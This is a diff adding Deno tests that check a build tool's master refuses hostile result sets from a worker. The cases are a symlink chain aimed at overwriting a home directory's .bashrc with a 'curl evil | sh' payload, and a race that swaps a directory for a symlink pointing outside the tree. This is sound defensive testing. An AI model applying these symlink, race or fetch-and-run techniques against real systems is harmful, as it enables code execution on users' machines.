@@ -73,3 +73,126 @@ for (const which of [0, 1, 2]) {
     }
   });
 }
+
+// ---- Issue 11: hostile result sets against the tree, through the real master ----
+
+function sha(bytes: Uint8Array): string {
+  return createHash("sha256").update(bytes).digest("hex");
+}
+
+async function tempRoot(prefix: string): Promise<string> {
+  const root = await Deno.realPath(await Deno.makeTempDir({ prefix }));
+  await Deno.chmod(root, 0o755);
+  return root;
+}
+
+Deno.test("master refuses the $HOME/.bashrc attack: a set linking a to a home and a/.bashrc to its payload", async () => {
+  const root = await tempRoot("termite-bashrc-");
+  const home = await Deno.realPath(await Deno.makeTempDir({ prefix: "termite-home-" }));
+  await Deno.writeTextFile(`${home}/.bashrc`, "# mine\n");
+  const payload = enc.encode("curl evil | sh\n");
+  try {
+    await withWorkerDouble({
+      root,
+      handlers: {
+        [WorkerMethods.mirrorOpen]: () => ({ slots: 4, workerId: "double" }),
+        [WorkerMethods.jobRun]: () => ({
+          exitCode: 0,
+          resultSet: {
+            deletions: [],
+            dirs: [],
+            files: [{
+              path: `${root}/payload.sh`,
+              hash: sha(payload),
+              size: payload.length,
+              mode: 0o755,
+              mtimeMs: 0,
+            }],
+            symlinks: [
+              { path: `${root}/a`, target: home },
+              { path: `${root}/a/.bashrc`, target: `${root}/payload.sh` },
+            ],
+          },
+          inline: { [sha(payload)]: payload },
+        }),
+      },
+    }, async (master, logs) => {
+      const result = await runScript(master, "echo done", root);
+      assert.equal(result.out, "done\n", "run locally after the refusal");
+      assert.ok(
+        logs.some((m) => /Refusing result set: .*a\/\.bashrc lies below/.test(m)),
+        logs.join("\n"),
+      );
+    });
+    assert.equal((await Deno.lstat(`${home}/.bashrc`)).isFile, true);
+    assert.equal(await Deno.readTextFile(`${home}/.bashrc`), "# mine\n");
+    await assert.rejects(Deno.lstat(`${root}/a`), Deno.errors.NotFound);
+  } finally {
+    await Deno.remove(root, { recursive: true });
+    await Deno.remove(home, { recursive: true });
+  }
+});
+
+Deno.test("master, two jobs at once: one writes d/x slowly while the other replaces d by a symlink to an outside 0700 dir; nothing lands outside, its mode is kept", async () => {
+  const root = await tempRoot("termite-race-");
+  const outside = await Deno.realPath(await Deno.makeTempDir({ prefix: "termite-race-out-" }));
+  await Deno.mkdir(`${root}/d`);
+  await Deno.chmod(`${root}/d`, 0o755);
+  const x = enc.encode("\x7fELF written slowly");
+  const fetching = Promise.withResolvers<void>();
+  const gate = Promise.withResolvers<void>();
+  try {
+    await withWorkerDouble({
+      root,
+      handlers: {
+        [WorkerMethods.mirrorOpen]: () => ({ slots: 4, workerId: "double" }),
+        [WorkerMethods.jobRun]: (params: JobParams) =>
+          params.argv[2] === "slow"
+            ? {
+              exitCode: 0,
+              resultSet: {
+                deletions: [],
+                dirs: [{ path: `${root}/d`, mode: 0o755 }],
+                files: [{
+                  path: `${root}/d/x`,
+                  hash: sha(x),
+                  size: x.length,
+                  mode: 0o644,
+                  mtimeMs: 0,
+                }],
+                symlinks: [],
+              },
+            }
+            : {
+              exitCode: 0,
+              resultSet: {
+                deletions: [`${root}/d`],
+                dirs: [],
+                files: [],
+                symlinks: [{ path: `${root}/d`, target: outside }],
+              },
+            },
+        [WorkerMethods.blobGet]: async (_p: unknown, ctx: CallContext) => {
+          fetching.resolve();
+          await gate.promise;
+          await ctx.sendBytes(x);
+          return { size: x.length };
+        },
+      },
+    }, async (master, logs) => {
+      const slow = runScript(master, "slow", root);
+      await fetching.promise;
+      const swap = await runScript(master, "swap", root);
+      assert.equal(swap.code, 0, logs.join("\n"));
+      gate.resolve();
+      await slow; // refused, then run locally: `slow` is no command (127)
+      assert.ok(logs.some((m) => /Refusing result set: .*\/d: /.test(m)), logs.join("\n"));
+    });
+    assert.deepEqual([...Deno.readDirSync(outside)], []);
+    assert.equal((await Deno.stat(outside)).mode! & 0o7777, 0o700);
+    assert.equal(await Deno.readLink(`${root}/d`), outside);
+  } finally {
+    await Deno.remove(root, { recursive: true });
+    await Deno.remove(outside, { recursive: true });
+  }
+});
